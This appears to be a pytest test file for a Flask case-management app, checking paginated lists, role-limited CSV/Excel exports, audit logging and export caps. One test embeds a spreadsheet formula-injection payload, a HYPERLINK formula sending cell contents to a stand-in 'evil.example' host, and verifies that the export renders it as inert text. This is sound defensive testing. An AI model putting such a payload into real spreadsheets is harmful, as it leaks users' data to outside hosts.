"""List pages (/cases, the inbox, the supervisor's console): pagination keeps the filters and
never answers 500 to a bad page number; exports (CSV with a BOM, Excel) hold exactly the filtered
list the user may see, with its columns, bounded and audited."""
from __future__ import annotations

import csv
import dataclasses
import io
import re
import uuid
from urllib.parse import unquote
from collections.abc import Callable
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select

from app.core.audit import AuditEvent
from app.core.db import session
from app.web import exports
from tests.web.pages import html


@pytest.fixture()
def small_pages(app: Flask, monkeypatch: pytest.MonkeyPatch) -> int:
    monkeypatch.setitem(app.config, "SETTINGS", dataclasses.replace(app.config["SETTINGS"], PAGE_SIZE=2))
    return 2


@pytest.fixture()
def marked(make_case: Callable[..., dict[str, Any]]) -> tuple[str, list[dict[str, Any]]]:
    """Five cases with a unique word in their title: four in 滨江社区 (d1-s1-c1), one in d1-s1-c2."""
    word = "标记" + uuid.uuid4().hex[:8]
    made = [make_case(title=f"{word} 井盖破损 {i}") for i in range(4)]
    made.append(make_case(title=f"{word} 别的社区", grid_unit="d1-s1-c2"))
    return word, made


def numbers_on(page: str) -> list[str]:
    return re.findall(r'class="mono">([^<]+)</a>', page)


def csv_rows(r: Any) -> list[list[str]]:
    assert r.status_code == 200, html(r)
    assert r.headers["Content-Type"].startswith("text/csv") and "attachment" in r.headers["Content-Disposition"]
    assert r.data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel opens the Chinese
    return list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))


def xlsx_rows(r: Any) -> list[list[Any]]:
    assert r.status_code == 200, html(r)
    assert r.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(r.data), read_only=True).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_cases_pages_split_the_filtered_list_and_keep_the_filters(browser: Callable[[str], FlaskClient], small_pages: int,
                                                                 marked: tuple[str, list[dict[str, Any]]]) -> None:
    word, made = marked
    client = browser("demo_operator")
    first = html(client.get("/cases", query_string={"q": word}))
    assert "共 5 条" in first and "第 1 / 3 页" in first
    next_link = re.search(r'<a href="([^"]+)" rel="next"', first)
    assert next_link and f"q={word}" in unquote(next_link.group(1)) and "page=2" in next_link.group(1)
    second = html(client.get(next_link.group(1).replace("&amp;", "&")))  # the link keeps the filter
    assert "共 5 条" in second and "第 2 / 3 页" in second
    pages = [numbers_on(first), numbers_on(second),
             numbers_on(html(client.get("/cases", query_string={"q": word, "page": 3})))]
    assert [len(p) for p in pages] == [2, 2, 1]
    seen = [n for p in pages for n in p]
    assert sorted(seen) == sorted(c["number"] for c in made)  # every case once, none twice
    # bad page numbers: never 500; past the end shows the last page
    for bad in ("abc", "-3", "0", "1e9", ""):
        r = client.get("/cases", query_string={"q": word, "page": bad})
        assert r.status_code == 200 and numbers_on(html(r)) == pages[0], bad
    last = client.get("/cases", query_string={"q": word, "page": "99999"})
    assert last.status_code == 200 and numbers_on(html(last)) == pages[2] and "第 3 / 3 页" in html(last)


def test_inbox_and_console_pages_clamp_bad_numbers(browser: Callable[[str], FlaskClient], small_pages: int,
                                                  marked: tuple[str, list[dict[str, Any]]]) -> None:
    worker = browser("demo_grid_worker")
    for bad in ("x", "-1", "100000", "999999999999"):
        r = worker.get("/inbox", query_string={"tab": "claimable", "page": bad})
        assert r.status_code == 200, bad
        assert re.search(r"第 (\d+) / (\d+) 页", html(r)) is not None
    supervisor = browser("demo_supervisor")
    r = supervisor.get("/supervision", query_string={"page": "100000"})
    assert r.status_code == 200
    m = re.search(r"第 (\d+) / (\d+) 页", html(r))
    assert m and m.group(1) == m.group(2)  # the last page


def test_case_export_is_the_filtered_list_the_user_may_see(app: Flask, browser: Callable[[str], FlaskClient],
                                                           marked: tuple[str, list[dict[str, Any]]]) -> None:
    word, made = marked
    operator = browser("demo_operator")
    page = html(operator.get("/cases", query_string={"q": word}))
    link = re.search(r'href="([^"]+)" class="export-csv"', page)
    assert link and f"q={word}" in unquote(link.group(1))
    rows = csv_rows(operator.get(link.group(1).replace("&amp;", "&")))
    header = ["工单编号", "标题", "状态", "当前环节", "层级", "亮灯", "办理时限", "来源渠道", "案件类别", "紧急程度", "所在网格", "登记时间"]
    assert rows[0] == header
    assert sorted(r[0] for r in rows[1:]) == sorted(c["number"] for c in made)
    one = next(r for r in rows[1:] if r[0] == made[0]["number"])
    assert one[1] == made[0]["title"] and one[2] == "处理中" and one[7] == "12345热线" and "污水井盖" in one[8]
    # the grid worker of 滨江社区 sees (and exports) the four cases of the community, not the fifth
    worker = browser("demo_grid_worker")
    mine = csv_rows(worker.get("/cases/export.csv", query_string={"q": word}))
    assert sorted(r[0] for r in mine[1:]) == sorted(c["number"] for c in made[:4])
    book = xlsx_rows(worker.get("/cases/export.xlsx", query_string={"q": word}))
    assert book[0] == header and sorted(r[0] for r in book[1:]) == sorted(c["number"] for c in made[:4])
    assert all(isinstance(r[1], str) and word in r[1] for r in book[1:])
    # a user who sees none of them exports a header only
    other = browser("grid_d1_s2_c1")
    assert csv_rows(other.get("/cases/export.csv", query_string={"q": word})) == [header]
    # the filter narrows the export exactly like the list
    assert len(csv_rows(operator.get("/cases/export.csv", query_string={"q": word, "status": "closed"}))) == 1


def test_exports_are_audited_and_bounded(app: Flask, browser: Callable[[str], FlaskClient], monkeypatch: pytest.MonkeyPatch,
                                         marked: tuple[str, list[dict[str, Any]]]) -> None:
    word, made = marked
    operator = browser("demo_operator")
    assert operator.get("/cases/export.xlsx", query_string={"q": word}).status_code == 200
    with app.app_context():
        event = session.scalars(select(AuditEvent).where(AuditEvent.action == "list_exported")
                                .order_by(AuditEvent.id.desc()).limit(1)).one()
        assert event.actor_name == "demo_operator"
        assert event.detail == {"list": "cases", "format": "xlsx", "rows": 5,
                                "filters": {"text": word, "sort": "-created"}}
    monkeypatch.setattr(exports, "EXPORT_MAX", 4)
    r = operator.get("/cases/export.csv", query_string={"q": word})
    assert r.status_code == 422 and "超过导出上限 4 条" in html(r)
    assert operator.get("/cases/export.pdf").status_code == 404


def test_inbox_and_console_exports(browser: Callable[[str], FlaskClient], marked: tuple[str, list[dict[str, Any]]]) -> None:
    worker = browser("demo_grid_worker")
    page = html(worker.get("/inbox", query_string={"tab": "claimable"}))
    total = int(re.search(r'可签收 <span class="count">(\d+)</span>', page).group(1)) if re.search(
        r'可签收 <span class="count">(\d+)</span>', page) else None
    rows = csv_rows(worker.get("/inbox/export.csv", query_string={"tab": "claimable"}))
    assert rows[0][:3] == ["工单编号", "标题", "任务"] and "签收人" not in rows[0]
    numbers = {r[0] for r in rows[1:]}
    word, made = marked
    assert {c["number"] for c in made[:4]} <= numbers and made[4]["number"] not in numbers  # c2 is not his
    if total is not None:
        assert len(rows) - 1 == total
    supervisor = browser("demo_supervisor")
    book = xlsx_rows(supervisor.get("/supervision/export.xlsx"))
    assert book[0][0] == "工单编号" and "催办次数" in book[0]
    assert {c["number"] for c in made} <= {r[0] for r in book[1:]}
    assert worker.get("/supervision/export.csv").status_code == 403  # the console's export is the supervisor's


def test_console_sections_page_on_their_own(browser: Callable[[str], FlaskClient], api: Any, small_pages: int,
                                            marked: tuple[str, list[dict[str, Any]]]) -> None:
    """The parked list had a silent cut at 50; now every section of the console pages, and a link
    of one section keeps the pages of the others."""
    word, made = marked
    supervisor_api = api("demo_supervisor")
    for c in made[:3]:
        r = supervisor_api.post(f"/api/v1/cases/{c['id']}/park", json={"reason": "等待管线单位施工"})
        assert r.status_code == 200, r.get_json()
    supervisor = browser("demo_supervisor")

    def parked_section(page: str) -> str:
        return page.split('id="parked-title"', 1)[1].split("</section>", 1)[0]

    first = html(supervisor.get("/supervision", query_string={"page": 1}))
    total = int(re.search(r'id="parked-title">[^<]*<span class="count">(\d+)</span>', first).group(1))
    assert total >= 3
    pages = -(-total // 2)
    section = parked_section(first)
    assert f"第 1 / {pages} 页" in section
    link = re.search(r'<a href="([^"]+)" rel="next"', section).group(1).replace("&amp;", "&")
    assert "parked_page=2" in link
    seen: list[str] = []
    url: str | None = "/supervision"
    while url:
        page = html(supervisor.get(url))
        part = parked_section(page)
        seen += re.findall(r'class="mono">([^<]+)</a>', part)
        nxt = re.search(r'<a href="([^"]+)" rel="next"', part)
        url = nxt.group(1).replace("&amp;", "&") if nxt else None
    assert len(seen) == total == len(set(seen)) and {c["number"] for c in made[:3]} <= set(seen)
    # another section's link keeps this one's page
    page = html(supervisor.get("/supervision", query_string={"parked_page": 2}))
    tasks_next = re.search(r'<a href="([^"]+)" rel="next"', page.split('id="tasks-title"', 1)[1].split("</section>", 1)[0])
    if tasks_next:
        assert "parked_page=2" in tasks_next.group(1)
    assert supervisor.get("/supervision", query_string={"parked_page": "x", "escalated_page": "-1"}).status_code == 200
    for c in made[:3]:
        supervisor_api.post(f"/api/v1/cases/{c['id']}/unpark", json={"reason": "管线单位已完工"})


def test_a_title_that_looks_like_a_formula_stays_text(browser: Callable[[str], FlaskClient],
                                                      make_case: Callable[..., dict[str, Any]]) -> None:
    word = "公式" + uuid.uuid4().hex[:6]
    evil = f'=HYPERLINK("http://evil.example/?"&A1,"{word}")'
    made = make_case(title=evil)
    operator = browser("demo_operator")
    rows = csv_rows(operator.get("/cases/export.csv", query_string={"q": word}))
    assert [r[:2] for r in rows[1:]] == [[made["number"], "'" + evil]]
    r = operator.get("/cases/export.xlsx", query_string={"q": word})
    assert r.status_code == 200
    sheet = load_workbook(io.BytesIO(r.data)).active
    cell = sheet.cell(row=2, column=2)
    assert cell.value == evil and cell.data_type == "s"  # text, not a formula
